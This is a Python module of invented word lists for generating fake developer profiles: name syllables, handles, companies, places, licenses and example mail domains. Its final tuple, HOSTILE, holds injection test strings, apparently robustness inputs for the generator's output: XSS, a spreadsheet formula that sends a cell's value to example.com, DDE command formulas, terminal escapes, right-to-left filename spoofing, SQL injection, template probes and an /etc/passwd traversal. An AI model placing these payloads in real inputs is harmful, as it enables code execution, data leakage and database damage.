"""Word lists of the invented world. No name here belongs to a real person or company; sites and mail addresses use
the domains that are reserved for examples (https://www.rfc-editor.org/rfc/rfc2606)."""

from __future__ import annotations

GIVEN_HEADS = (
    "Vel", "Tor", "Quen", "Zar", "Mip", "Oru", "Fen", "Jas", "Kel", "Lum", "Nir", "Pax", "Ros", "Syl", "Tav", "Ulm",
    "Wen", "Yor", "Bri", "Cal", "Dov", "Els", "Gor", "Hal", "Ist", "Kav", "Lor", "Myr", "Nol", "Osk",
)  # fmt: skip
GIVEN_TAILS = (
    "dra", "mik", "lith", "wyn", "zo", "bert", "quil", "sa", "nax", "fi", "gard", "hul", "jin", "kor", "lune", "mo",
    "nel", "pell", "rix", "tash", "ura", "vek", "xi", "yra", "bel", "cas", "dor", "eska", "fro", "gil",
)  # fmt: skip
FAMILY_HEADS = (
    "Ash", "Brack", "Crum", "Dusk", "Ember", "Fallow", "Grim", "Heath", "Iron", "Jun", "Kest", "Lark", "Mar", "Nettle",
    "Oak", "Pike", "Quarr", "Rush", "Sedge", "Thorn", "Under", "Vale", "Whin", "Yarrow", "Zeph", "Bram", "Copper",
    "Drift", "Elder", "Flint",
)  # fmt: skip
FAMILY_TAILS = (
    "vane", "mottle", "wick", "skein", "holloway", "garth", "thistle", "burrow", "croft", "dabble", "fennick", "gloam",
    "harrow", "ibex", "jostle", "knell", "lattice", "murk", "noggin", "orrery", "pebble", "quill", "ramble", "sprocket",
    "tumble", "umber", "vesper", "whistle", "yonder", "zither",
)  # fmt: skip
HANDLE_WORDS = (
    "pixel", "turbo", "quiet", "lazy", "cosmic", "rusty", "tiny", "noisy", "hidden", "amber", "binary", "velvet",
    "copper", "frozen", "sleepy", "crisp", "odd", "hollow", "brisk", "plain",
)  # fmt: skip
HANDLE_NOUNS = (
    "otter", "falcon", "kettle", "badger", "lantern", "teapot", "walrus", "cactus", "pigeon", "anvil", "comet",
    "goblin", "marmot", "puffin", "biscuit", "gecko", "thimble", "acorn", "wombat", "turnip",
)  # fmt: skip
COMPANIES = (
    "Quillbyte", "@quillbyte-labs", "Emberforge Systems", "Nettle & Oak", "@tumbleworks", "Larkspur Data",
    "University of Yonderholm", "Freelance", "Umbral Robotics GmbH", "Copperkettle Inc.", "student", "@ironvesper",
    "Glimmerdeck", "Pebblestack, LLC", "Sedgewick Analytics", "Institute of Orrery Studies", "self-employed",
    "Whistlepost", "@driftharbor @quillbyte-labs", "Zephyrline Games", "Mottle Interactive", "Harrowgate Bank", "none",
)  # fmt: skip
PLACES = (
    "Berlin, Germany", "Berlin", "Lisbon, Portugal", "Toronto, Canada", "São Paulo, Brasil", "Bengaluru, India",
    "London", "Paris, France", "Warsaw, Poland", "Nairobi, Kenya", "Seoul", "Tokyo, Japan", "上海", "San Francisco, CA",
    "Austin, TX", "New York", "Amsterdam", "Kyiv, Ukraine", "Москва", "Istanbul, Türkiye", "Melbourne, Australia",
    "Dublin, Ireland", "Zürich", "Earth", "localhost", "the internet", "Cairo, Egypt", "Ciudad de México", "Stockholm",
)  # fmt: skip
ROLES = (
    "software engineer", "hobby programmer", "student of computing", "data person", "backend developer", "researcher",
    "tinkerer", "front-end developer", "maintainer of small things", "platform engineer", "game developer", "designer",
)  # fmt: skip
PASTIMES = (
    "likes maps", "plays the zither", "grows tomatoes", "mostly asleep", "coffee first", "builds keyboards", "he/him",
    "she/her", "they/them", "opinions are mine", "ask me about trains", "open to work", "always learning", "🦀 and 🐍",
)  # fmt: skip
ADJECTIVES = (
    "small", "fast", "simple", "modern", "experimental", "opinionated", "minimal", "friendly", "modular", "lightweight",
    "unofficial", "portable", "typed", "self-hosted", "reproducible", "extensible",
)  # fmt: skip
NAME_HEADS = (
    "open", "super", "tiny", "hyper", "easy", "auto", "deep", "fast", "micro", "mono", "neo", "omni", "pocket", "quick",
    "smart", "turbo", "ultra", "zen", "blue", "iron", "lunar", "solar", "crystal", "echo", "nova", "pulse", "spark",
)  # fmt: skip
MAIL_DOMAINS = ("example.com", "example.org", "example.net", "mail.example.com", "dev.example.org")
LICENSES: tuple[tuple[str, str, str, float], ...] = (
    ("mit", "MIT License", "MIT", 0.50),
    ("apache-2.0", "Apache License 2.0", "Apache-2.0", 0.18),
    ("gpl-3.0", "GNU General Public License v3.0", "GPL-3.0", 0.14),
    ("other", "Other", "NOASSERTION", 0.06),
    ("bsd-3-clause", 'BSD 3-Clause "New" or "Revised" License', "BSD-3-Clause", 0.04),
    ("lgpl-3.0", "GNU Lesser General Public License v3.0", "LGPL-3.0", 0.03),
    ("mpl-2.0", "Mozilla Public License 2.0", "MPL-2.0", 0.03),
    ("unlicense", "The Unlicense", "Unlicense", 0.02),
)
HOSTILE = (
    "<script>alert('leads')</script><img src=x onerror=alert(1)>",
    '=HYPERLINK("http://example.com/?"&A1,"free offer")',
    "\x1b[31mred\x1b[0m \x1b]0;owned\x07 bell\x07",
    "\u202egnp.exe\u202c right\u200fto\u200eleft \u2066isolate\u2069",
    "Robert'); DROP TABLE developers;--",
    "👩‍👩‍👧‍👦 𝔘𝔫𝔦𝔠𝔬𝔡𝔢 z̷a̷l̷g̷o̷ ﷽",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    'line one\r\nline two\ttab, "quote", semi;colon, null\ufffd',
    "{{7*7}} ${7*7} %s %n ../../etc/passwd",
    "-2+3+cmd|' /C calc'!A0",
)
